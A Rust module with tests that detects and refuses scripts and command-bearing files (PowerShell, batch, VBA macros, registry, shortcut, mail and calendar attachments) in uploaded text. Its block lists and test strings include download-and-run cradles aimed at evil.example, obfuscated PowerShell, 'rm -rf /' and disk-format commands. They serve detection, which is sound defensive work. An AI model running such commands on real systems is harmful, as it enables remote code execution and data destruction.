//! Scripts, and files of orders: texts that a program does what they say when somebody opens them.
//!
//! They are known by lines that they begin with, anywhere in a text. That finds what scripts do to start something or to
//! fetch it; no list finds every script, since almost any line is one for some program. So names are looked at as well
//! ([`is_run_by_name`](crate::is_run_by_name)), and the new name of a text is none that is run.

use crate::{
    blanks::is_nothing,
    kind::is_run_by_name,
    verdict::{Reason, Refusal},
};

/// Under which names a text may come to be.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Under {
    /// Any that whoever saves it gives it.
    AnyName,
    /// The one that it has, by which only readers of text open it.
    ItsName,
}

/// What the first line that is not empty begins with.
const FIRST: &[(&str, Reason)] = &[
    ("#!", Reason::Program),
    ("id;", Reason::NotAllowed),
    ("{\\rtf", Reason::NotAllowed),
    ("%!ps", Reason::NotAllowed),
    ("%fdf-", Reason::NotAllowed),
    ("xlodbc", Reason::NotAllowed),
    ("querytype=", Reason::NotAllowed),
];

/// What a line of a file begins with that a program follows when it is opened: links, settings, connections, mails as pages.
const ORDERS: &[(&str, Reason)] = &[
    ("[internetshortcut", Reason::NotAllowed),
    ("[{000214a0", Reason::NotAllowed),
    ("[desktop entry", Reason::NotAllowed),
    ("[shell]", Reason::NotAllowed),
    ("[autorun", Reason::NotAllowed),
    ("[.shellclassinfo", Reason::NotAllowed),
    ("[oledb]", Reason::NotAllowed),
    ("[defaultinstall", Reason::NotAllowed),
    ("[wfclient]", Reason::NotAllowed),
    ("windows registry editor", Reason::NotAllowed),
    ("regedit4", Reason::NotAllowed),
    ("full address:s:", Reason::NotAllowed),
    ("remoteapplication", Reason::NotAllowed),
    ("[playlist]", Reason::NotAllowed),
    ("#extm3u", Reason::NotAllowed),
    ("#extinf:", Reason::NotAllowed),
    ("[theme]", Reason::NotAllowed),
    ("[scriptfile]", Reason::NotAllowed),
    // AutoCAD's menus.
    ("***menugroup", Reason::NotAllowed),
    ("[control panel\\", Reason::NotAllowed),
    ("attribute vb_name", Reason::Program),
    ("=ybegin ", Reason::Archive),
    ("(this file must be converted with binhex", Reason::Archive),
];

/// What a line of a script begins with that starts something.
const LINES: &[&str] = &[
    "echo off",
    "setlocal",
    "powershell",
    "pwsh ",
    "cmd /",
    "cmd.exe",
    "mshta",
    "rundll32",
    "regsvr32",
    "wscript",
    "cscript",
    "certutil",
    "bitsadmin",
    "msiexec",
    "schtasks",
    "wmic ",
    "reg add ",
    "reg delete ",
    "reg import ",
    "net use ",
    "net user ",
    "start /",
    "start \"",
    "if exist ",
    "if not exist ",
    "if errorlevel ",
    "for /",
    "for %",
    "del /",
    "erase /",
    "rd /",
    "rmdir /",
    "taskkill ",
    "exit /b",
    "goto :",
    "set-executionpolicy",
    "start-process",
    "invoke-",
    "iex ",
    "iex(",
    "iwr ",
    "add-type ",
    "option explicit",
    "on error resume next",
    "set-alias ",
    "import os",
    "import subprocess",
    "import socket",
    "import ctypes",
    "import sys",
    "from os import",
    "from subprocess import",
    "exec(",
    "eval(",
    "execute(",
    "execute ",
    "%comspec%",
    "shutdown /",
    "shutdown -",
    "vssadmin delete",
    "bcdedit /",
    "saps ",
    "shell \"",
    "shell(",
    "sub autoopen",
    "sub autoexec",
    "sub auto_open",
    "sub document_open",
    "sub workbook_open",
    "load \"",
    // AutoCAD's scripts.
    "_shell",
    "_.shell",
    "_start ",
    "_appload",
    "_.appload",
    "_netload",
    "_.netload",
    "_vbarun",
    "_-vbarun",
];

/// Programs that every Windows has, and that do what the rest of their line says.
const TOOLS: &[&str] = &[
    "at",
    "bash",
    "bitsadmin",
    "calc",
    "certreq",
    "certutil",
    "cmd",
    "cmstp",
    "conhost",
    "control",
    "cscript",
    "curl",
    "explorer",
    "forfiles",
    "ftp",
    "hh",
    "ieexec",
    "installutil",
    "mavinject",
    "msbuild",
    "msdt",
    "mshta",
    "msiexec",
    "mspaint",
    "net",
    "net1",
    "notepad",
    "odbcconf",
    "pcalua",
    "powershell",
    "presentationhost",
    "pwsh",
    "reg",
    "regasm",
    "regedit",
    "regsvcs",
    "regsvr32",
    "rundll32",
    "sc",
    "schtasks",
    "scriptrunner",
    "shutdown",
    "tftp",
    "verclsid",
    "winrm",
    "winrs",
    "wmic",
    "wscript",
    "wsl",
    "wt",
];

/// What stands anywhere in a script that reaches for the machine.
const CALLS: &[&str] = &[
    "createobject(",
    "getobject(",
    "activexobject",
    "wscript.shell",
    "wscript.createobject",
    "executeglobal",
    "shellexecute",
    "downloadstring(",
    "downloadfile(",
    "invoke-expression",
    "invoke-webrequest",
    "frombase64string(",
    "-encodedcommand",
    "java.lang.runtime",
    "child_process",
    "winmgmts:",
    "shell.application",
    "scripting.filesystemobject",
    "adodb.stream",
    "new this[",
    "][\"constructor\"]",
    "]['constructor']",
    ".constructor(\"",
    ".constructor('",
    "__import__(",
    "[diagnostics.process]::",
    "[system.diagnostics.process]::",
    "[scriptblock]::",
    "new-object -com",
    "start-bitstransfer",
    // AutoCAD runs what lies beside a drawing.
    "(startapp",
    "(vl-load-com",
    "(vl-vbarun",
    "(vlax-",
    "(vlr-",
    "(command\"",
    "(command \"",
];

/// How attachments are written so that they are letters.
const PACKED: &[&str] = &["base64", "quoted-printable", "uuencode", "x-uue"];

/// Words that fetch something, in the shells of Windows and others.
const FETCH: &[&str] =
    &["curl", "curl.exe", "wget", "wget.exe", "irm", "iwr", "invoke-restmethod", "tftp", "aria2c"];

/// Words that do what is handed to them behind a bar.
const SHELLS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "iex",
    "cmd",
    "powershell",
    "pwsh",
    "python",
    "python3",
    "perl",
    "node",
    "ruby",
];

/// Texts of more lines than this are no short scripts.
const FEW_LINES: usize = 24;

/// Refuses a text that is a script or a file of orders, as far as its lines tell it. One that keeps its name may be a script:
/// nothing runs it.
pub(crate) fn check(letters: &str, under: Under) -> Result<(), Refusal> {
    let is_run = under == Under::AnyName;
    let text = letters.to_ascii_lowercase();
    let begun = text.trim_start_matches(is_nothing);
    let first = FIRST.iter().find(|(begin, _)| begun.starts_with(begin));
    if let Some((found, reason)) = first.filter(|(_, reason)| is_run || *reason != Reason::Program) {
        return Err(Refusal::new(*reason, *found));
    }
    let mut lines = begun.lines().map(str::trim);
    if lines.next() == Some("web") && lines.next().is_some_and(|version| version == "1") {
        return Err(Refusal::new(Reason::NotAllowed, "a query of a page"));
    }
    // Also as it is when what is put together from pieces is one.
    let joined = joined(&text);
    let call = CALLS.iter().find(|call| text.contains(**call) || joined.contains(**call));
    if let Some(found) = call.filter(|_| is_run) {
        return Err(Refusal::new(Reason::Program, *found));
    }
    letter(&text)?;
    encoded(&text)?;
    let (mut has_version, mut has_signature) = (false, false);
    let (mut has_list, mut has_entry) = (false, false);
    for line in joined.split(['\n', '\r', '\u{b}', '\u{c}']) {
        let line = line.trim_start_matches(is_nothing);
        let order_file = ORDERS.iter().find(|(begin, _)| line.starts_with(begin));
        if let Some((found, reason)) = order_file.filter(|(_, reason)| is_run || *reason != Reason::Program) {
            return Err(Refusal::new(*reason, *found));
        }
        has_version |= line.starts_with("[version]");
        has_signature |= line.starts_with("signature");
        has_list |= line.starts_with("[reference]");
        has_entry |= line.starts_with("ref1");
        if let Some(found) = order(line).filter(|_| is_run) {
            return Err(Refusal::new(Reason::Program, found));
        }
    }
    match (has_version && has_signature, has_list && has_entry) {
        (true, _) => Err(Refusal::new(Reason::NotAllowed, "what Windows installs by")),
        (_, true) => Err(Refusal::new(Reason::NotAllowed, "a list of what is played")),
        _ => Ok(()),
    }
}

/// Refuses a text of few lines that is a script by the shape of one, as [`is_short_script`] has it.
pub(crate) fn check_short(letters: &str, under: Under) -> Result<(), Refusal> {
    let counts = |line: &&str| !line.trim().is_empty() && !line.starts_with("```");
    let is_short = letters.lines().filter(counts).nth(FEW_LINES).is_none();
    let is_run = is_short && under == Under::AnyName;
    match is_run && is_short_script(&joined(&letters.to_ascii_lowercase())) {
        true => Err(Refusal::new(Reason::Program, "a short script")),
        false => Ok(()),
    }
}

/// Whether a text of few lines has one that has the shape of an order, and is not for the most part something that people
/// read: manuals and letters tell orders as well, with sentences around them.
fn is_short_script(joined: &str) -> bool {
    let (mut lines, mut told, mut has_order) = (0, 0, false);
    for line in joined.split(['\n', '\r']).map(|line| line.trim_matches(is_nothing)) {
        if line.is_empty() || line.starts_with("```") {
            continue;
        }
        lines += 1;
        if lines > FEW_LINES {
            return false;
        }
        if is_told(line) {
            told += 1;
        } else {
            has_order |= has_shape(line);
        }
    }
    has_order && 2 * told < lines
}

/// Whether a line is a sentence, a heading or the like: letters of Japanese in a row, or four words and hardly anything else.
/// What a script says itself is none.
fn is_told(line: &str) -> bool {
    if ["echo ", "rem ", "::"].iter().any(|begin| line.starts_with(begin)) {
        return false;
    }
    let mut before = false;
    let is_japanese = line.chars().any(|letter| {
        let is_one = matches!(letter, 'ぁ'..='ヿ' | '々' | '\u{3400}'..='\u{9fff}' | 'ｦ'..='ﾟ');
        let are_two = is_one && before;
        before = is_one;
        are_two
    });
    let is_word = |word: &&str| {
        let word = word.trim_end_matches([',', '.', ':', ';', '!', '?']);
        !word.is_empty() && word.bytes().all(|byte| byte.is_ascii_alphabetic() || byte == b'\'')
    };
    let words = line.split_ascii_whitespace().filter(is_word).count();
    is_japanese || words >= 4 && 4 * words >= 3 * line.split_ascii_whitespace().count()
}

/// Whether a line has the shape of an order to a shell, whatever it does: a call of what is put together, a word that is, a disk
/// that is wiped, something that is fetched or handed to a shell.
fn has_shape(line: &str) -> bool {
    let line = line.trim_start_matches(['@', ' ']);
    let mut words = line.split_ascii_whitespace();
    let (first, second) = (words.next().unwrap_or_default(), words.next().unwrap_or_default());
    // `& ("{1}{0}" -f "ex","i")`, `. $a`; what ends so is a row of a table of TeX.
    let called = line.strip_prefix(['&', '.']).filter(|_| !line.ends_with("\\\\")).map(str::trim_start);
    let is_called = called.is_some_and(|called| {
        let inside = called.strip_prefix('(').map(str::trim_start);
        called.starts_with(['$', '{'])
            || inside.is_some_and(|inside| inside.starts_with(['"', '\'', '$', '(']))
    });
    let is_drive =
        |word: &str| word.len() == 2 && word.ends_with(':') && word.as_bytes()[0].is_ascii_lowercase();
    let is_wiped = first == "format" && is_drive(second)
        || matches!(first, "del" | "erase" | "rd" | "rmdir" | "deltree") && second.contains('*')
        || first == "rm" && second.starts_with('-') && second.contains('r')
        || first == "dd" && second.starts_with("if=")
        || first.starts_with("mkfs.");
    let is_fetched = FETCH.contains(&first) && line[first.len()..].contains(['.', '/']);
    let handed =
        line.rsplit_once('|').filter(|(before, _)| !before.trim().is_empty() && !line.starts_with('|'));
    let is_handed = handed
        .is_some_and(|(_, to)| SHELLS.contains(&to.split_ascii_whitespace().next().unwrap_or_default()));
    is_called
        || is_built(first)
        || is_wiped
        || is_fetched
        || is_handed && matches!(first, "echo" | "cat" | "type" | "printf" | "base64")
}

/// What a line starts, if it is an order to start something.
fn order(line: &str) -> Option<&'static str> {
    // Before an order: what keeps it from being shown, what groups it, what quotes its path.
    let before = |letter: char| matches!(letter, '@' | '(' | '&' | '"' | '\'' | '.') || is_nothing(letter);
    let mut order = line.trim_start_matches(before);
    loop {
        if let Some(found) = LINES.iter().find(|begin| order.starts_with(**begin)) {
            return Some(found);
        }
        let word =
            order.split(|letter: char| letter.is_whitespace() || letter == '"').next().unwrap_or(order);
        let behind = order[word.len()..].trim_start_matches('"').trim_start();
        let name = word.rsplit(['\\', '/']).next().unwrap_or(word);
        let tool = name.strip_suffix(".exe").and_then(|name| TOOLS.iter().find(|tool| **tool == name));
        // A list of what runs says numbers of it, and a sentence goes on in letters of its language.
        let is_order = behind.is_empty()
            || behind.starts_with(|letter: char| letter.is_ascii() && !letter.is_ascii_digit());
        if is_order && let Some(tool) = tool {
            return Some(tool);
        }
        // Words that only say how the order behind them is started.
        if !matches!(word, "call" | "start" | "do" | "then") || behind.is_empty() {
            return None;
        }
        order = behind.trim_start_matches(before);
    }
}

/// A text without what the shells of Windows pass over, and with pieces of words that are put together as one word: `^p^ower`,
/// `"Active" + "XObject"`, `GetObject (`.
fn joined(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let is_quote = |letter: char| matches!(letter, '"' | '\'');
    let mut letters = text.chars().peekable();
    while let Some(letter) = letters.next() {
        match letter {
            '^' => {}
            // Within a word; around one it marks code in a text.
            '`' if out.ends_with(char::is_alphanumeric)
                && letters.peek().is_some_and(|next| next.is_alphanumeric()) => {}
            '(' => {
                out.truncate(out.trim_end_matches([' ', '\t']).len());
                out.push('(');
            }
            '"' | '\'' => {
                let blanks = [' ', '\t', '\r', '\n'];
                let before = out.trim_end_matches(blanks);
                let piece = before.strip_suffix(['+', '&']).map(|piece| piece.trim_end_matches(blanks));
                match piece.and_then(|piece| piece.strip_suffix(is_quote)).map(str::len) {
                    Some(end) => out.truncate(end),
                    None => out.push(letter),
                }
            }
            letter => out.push(letter),
        }
    }
    out
}

/// Whether a word is put together from what variables hold: `%a%lc`, `%a:~0,1%ca`. A path has a backslash behind its variable,
/// an address signs of two digits.
fn is_built(word: &str) -> bool {
    let mut pieces = word.split('%');
    let (before, Some(name), Some(behind)) =
        (pieces.next().unwrap_or_default(), pieces.next(), pieces.next())
    else {
        return false;
    };
    let name = name.split(':').next().unwrap_or(name);
    let is_name = name.starts_with(|one: char| one.is_ascii_alphabetic())
        && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_');
    let is_sign =
        |piece: &str| piece.len() >= 2 && piece.bytes().take(2).all(|byte| byte.is_ascii_hexdigit());
    let goes_on = behind.starts_with(|one: char| one.is_ascii_alphanumeric())
        || behind.is_empty() && word.matches('%').count() > 2;
    is_name && goes_on && !before.contains(['/', ':', '=']) && !word.split('%').skip(1).all(is_sign)
}

/// Refuses a mail that brings files, and a calendar that does: programs that read them take out what is in them.
///
/// Source: RFC 2045, RFC 2183, RFC 5545
fn letter(text: &str) -> Result<(), Refusal> {
    let page = |what: &str| Err(Refusal::new(Reason::Page, what));
    let is_calendar = text.contains("begin:vcalendar");
    // A mail of letters alone is a text like others.
    let (mut is_mail, mut is_letters) = (false, true);
    let mut lines = text.split(['\n', '\r']).filter(|line| !line.is_empty()).peekable();
    while let Some(line) = lines.next() {
        let line = line.trim_start_matches('\u{feff}');
        let Some(end) = line.find([':', ';']) else { continue };
        let name = line[..end].trim_end();
        let is_told = matches!(
            name,
            "mime-version"
                | "content-type"
                | "content-disposition"
                | "content-transfer-encoding"
                | "attach"
                | "action"
        );
        if !is_told {
            continue;
        }
        // A line that begins with a blank goes on with the one before.
        let mut value = line[end..].to_owned();
        while let Some(more) = lines.next_if(|next| next.starts_with([' ', '\t'])) {
            // In a mail the blank counts, in a calendar it does not.
            value.push_str(if is_calendar { &more[1..] } else { more });
        }
        match name {
            "mime-version" => is_mail = true,
            "content-transfer-encoding" if PACKED.iter().any(|way| value.contains(way)) => {
                return page("a mail");
            }
            "content-type" if value.contains("multipart/") && !value.contains("form-data") => {
                return page("a mail");
            }
            "content-type" if value.contains("message/") => return page("a mail"),
            "content-type" | "content-disposition" if names_program(&value) => {
                return page("a mail with a program");
            }
            "content-type" => is_letters &= value[1..].trim_start().starts_with("text/plain"),
            "attach" if is_calendar && brings_file(&value) => return page("a calendar that brings a file"),
            "action" if is_calendar && value.contains("procedure") => {
                return page("a calendar that runs something");
            }
            _ => {}
        }
    }
    if is_mail && !is_letters { page("a mail") } else { Ok(()) }
}

/// Whether what a mail says of a part names a file that is run, in one piece or in several.
fn names_program(value: &str) -> bool {
    value.contains("name*") || value.split([';', '"', '=', ' ']).any(|piece| is_run_by_name(piece.trim()))
}

/// Whether a calendar's attachment is in it, or on another machine.
fn brings_file(value: &str) -> bool {
    ["encoding=", "value=binary", "data:", "file:", "\\\\"].iter().any(|way| value.contains(way))
}

/// Whether a line holds as many letters as its first one says, or nothing but those of base64.
fn is_data(line: &str) -> bool {
    let line = line.trim_end();
    let bytes = usize::from(line.bytes().next().unwrap_or(b' ').wrapping_sub(b' ') & 63);
    let is_letter = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=');
    let is_uu = bytes > 0 && line.bytes().all(|byte| byte.is_ascii_graphic() || byte == b' ');
    is_uu && line.len() > bytes.div_ceil(3) * 4
        || line.len().is_multiple_of(4) && !line.is_empty() && line.bytes().all(is_letter)
}

/// Refuses files in letters, as programs of mail wrote them before there were attachments.
fn encoded(text: &str) -> Result<(), Refusal> {
    let (mut is_begun, mut has_data) = (false, false);
    for line in text.lines() {
        let begin = line.trim_start_matches(is_nothing);
        let begun = begin.strip_prefix("begin ").or_else(|| begin.strip_prefix("begin-base64 "));
        if let Some((mode, name)) = begun.and_then(|begun| begun.split_once(' ')) {
            let is_mode =
                matches!(mode.len(), 3 | 4) && mode.bytes().all(|digit| matches!(digit, b'0'..=b'7'));
            is_begun |= is_mode && !name.trim().is_empty();
        } else if is_begun {
            has_data |= is_data(line);
        }
        if has_data && matches!(line.trim_end(), "end" | "====") {
            return Err(Refusal::new(Reason::Archive, "uuencode"));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scripts_and_files_of_orders_are_known_wherever_their_lines_stand() {
        let refused = [
            "@echo off\r\npowershell -enc AAAA",
            "@powershell -enc AAAA",
            "CreateObject(\"WScript.Shell\").Run \"calc\"",
            "new ActiveXObject('x')",
            "x = 1\nIEX (New-Object Net.WebClient).DownloadString('http://x')",
            "import os\nos.system('calc')",
            "; comment\r\n[InternetShortcut]\r\nURL=file://evil.example/s/run.exe",
            "Windows Registry Editor Version 5.00",
            "REGEDIT4",
            "[Version]\r\nSignature=\"$CHICAGO$\"",
            "full address:s:evil.example",
            "[Shell]\nCommand=2\nIconFile=\\\\evil\\x.ico",
            "X-A: y\r\nMIME-Version: 1.0\r\nContent-Type: text/html",
            "X-A: y\r\nMIME-Version : 1.0\r\nContent-Type:text/plain\r\nContent-Type: text/html",
            "Subject: x\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b",
            "Subject: x\r\nContent-Type:\r\n multipart/mixed; boundary=b",
            "Content-Transfer-Encoding: base64\r\n\r\nTVqQ",
            "Content-Disposition: attachment; filename=\"run.bat\"",
            "BEGIN:VCALENDAR\r\nATTACH;ENC\r\n ODING=BASE64;VALUE=BINARY;X-FILENAME=run.exe:TVqQ",
            "BEGIN:VCALENDAR\r\nATTACH:file://evil.example/s/run.exe",
            "begin 644 run.exe\r\n#35J0^M\r\n`\r\nend\r\n",
            "[playlist]\r\nFile1=\\\\evil.example\\s\\a.mp3",
            "#EXTM3U\r\n#EXTINF:1, a\r\nx.mp3",
            "[Theme]\r\nDisplayName=x",
            "[Reference]\r\nRef1=http://evil.example/a",
            "ver\r\ncalc.exe",
            "x=1\r\n^p^owershell -enc AAAA",
            "%COMSPEC% /c calc",
            "%SystemRoot%\\System32\\mshta.exe http://evil.example/",
            "start \"\" C:\\Windows\\System32\\calc.exe",
            "call mshta.exe http://evil.example/",
            "Set a=GetObject (\"winmgmts:Win32_Process\")",
            "Set a=CreateObject\t (\"x\")",
            "var s=new this[\"Active\"+\"XObject\"](\"WSc\" +\r\n 'ript.Shell')",
            "saps calc\r\n",
            "x\r\npo`wer`shell -enc AAAA",
            "$a=[Diagnostics.Process]::Start('calc')",
            "Sub AutoOpen()\r\nShell \"calc.exe\"\r\nEnd Sub",
            "Attribute VB_Name = \"Module1\"",
            "(startapp \"calc.exe\")",
            "(defun x () (vl-load-com))",
            "(command \"_.shell\" \"calc\")",
        ];
        let first = [
            "#!/bin/sh\nrm x",
            "ID;PWXL;N;E",
            "WEB\r\n1\r\nhttp://evil.example/x",
            "{\\rtf1}",
            "%!PS",
            "%FDF-1.2",
        ];
        for text in refused.iter().chain(&first) {
            for before in ["", "\u{feff}\u{feff}", "\r\n \t\r\n"] {
                assert!(check(&format!("{before}{text}"), Under::AnyName).is_err(), "{text}");
            }
        }
        for text in refused {
            assert!(check(&format!("{}\r\n{text}", "x".repeat(9_000)), Under::AnyName).is_err(), "{text}");
        }
    }

    #[test]
    fn letters_lists_and_settings_pass() {
        for text in [
            "- 橋の点検 (国道)\n- 完了!",
            "web サイトの更新\n1 件",
            "[section]\nkey=value\n[version]\nnumber=1",
            "Start the service at 9.\nFor details call 076-220-2111.\nSet the date. Del the old one.",
            "\\\\fs1\\土木\\図面.dwg にあります。",
            "{\"command\":\"start\"}",
            "import of goods, internal executives",
            "画像名              PID セッション名\r\nexplorer.exe   1234 Console 1 10,000 K\r\nnotepad.exe を閉じます。",
            "From: a@x.jp\r\nTo: b@x.jp\r\nSubject: 照会\r\nContent-Type: text/plain\r\n\r\n本文です。",
            "From: a@x.jp\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n本文です。",
            "POST /upload\nContent-Type: multipart/form-data; boundary=x\nContent-Disposition: form-data; name=\"file\"; filename=\"a.pdf\"",
            "%SystemRoot%\\System32\\drivers\\etc\\hosts を開きます。",
            "BEGIN:VCALENDAR\r\nSUMMARY:会議\r\nATTACH:https://www.city.example.jp/a.pdf\r\nACTION:DISPLAY\r\nEND:VCALENDAR",
            "手順:\n`powershell` や `cmd /c` を使います。",
            "begin 2026 の予定\n終わり\nend",
            "[Reference]\nISO 32000-2",
            "# 手順\n\n```c\nint main(void) { printf(\"a\" \"b\"); return a ^ b; }\n```\n\n- `open (file)` を呼ぶ",
            "SELECT 'a' + 'b' FROM t;\nBEGIN\n  UPDATE t SET x = 1;\nEND",
            "2026-11-28 10:00:00 INFO start worker 3\n2026-11-28 10:00:01 WARN call failed (timeout)",
            "{\"a\": [1, -2], \"action\": \"show\", \"attach\": null}",
            "Action: 点検する\nattach; 別紙のとおり",
        ] {
            assert_eq!(check(text, Under::AnyName).err(), None, "{text}");
        }
    }

    #[test]
    fn a_short_text_is_a_script_if_a_line_has_the_shape_of_an_order_and_people_read_little_else_in_it() {
        for text in [
            "a=1\r\nc^url http://evil.example/x -o x.exe\r\nx.exe\r\n",
            "set a=ca\r\n%a%lc\r\n",
            "%a:~0,1%ca%b%lc\r\n",
            "format d: /y\r\n",
            "@format D: /y\r\n",
            "& (\"{1}{0}\" -f \"ex\",\"i\") (irm evil.example)\r\n",
            "&('ie'+'x') 1\r\n",
            "$a=\"x\"; \r\n. $a\r\n",
            "curl evil.example|sh\n",
            "echo Y2FsYw== | base64 -d | sh\n",
            "rem あいう\r\necho かきく\r\ndel *.*\r\n",
            "rm -rf /\n",
            "irm evil.example/a\r\n",
        ] {
            assert!(check_short(text, Under::AnyName).is_err(), "{text}");
            assert!(check_short(text, Under::ItsName).is_ok(), "{text}");
        }
        for text in [
            "[]['filter']['constructor']('x')()",
            "var f=[][\"filter\"][\"constru\"+\"ctor\"];f(\"return this\")()",
            "__import__(\"os\").system(\"calc\")\n",
            "_shell\n\"calc\"\n",
        ] {
            assert!(check(text, Under::AnyName).is_err(), "{text}");
        }
        for text in [
            "[ScriptFile]\r\nPath=\\\\evil\\x.vbs\r\n",
            "***MENUGROUP=A\r\n",
            "ID;PWXL;N;E",
            "[Shell]\nCommand=2",
        ] {
            for under in [Under::AnyName, Under::ItsName] {
                assert!(check(text, under).is_err(), "{text}");
            }
        }
    }
}
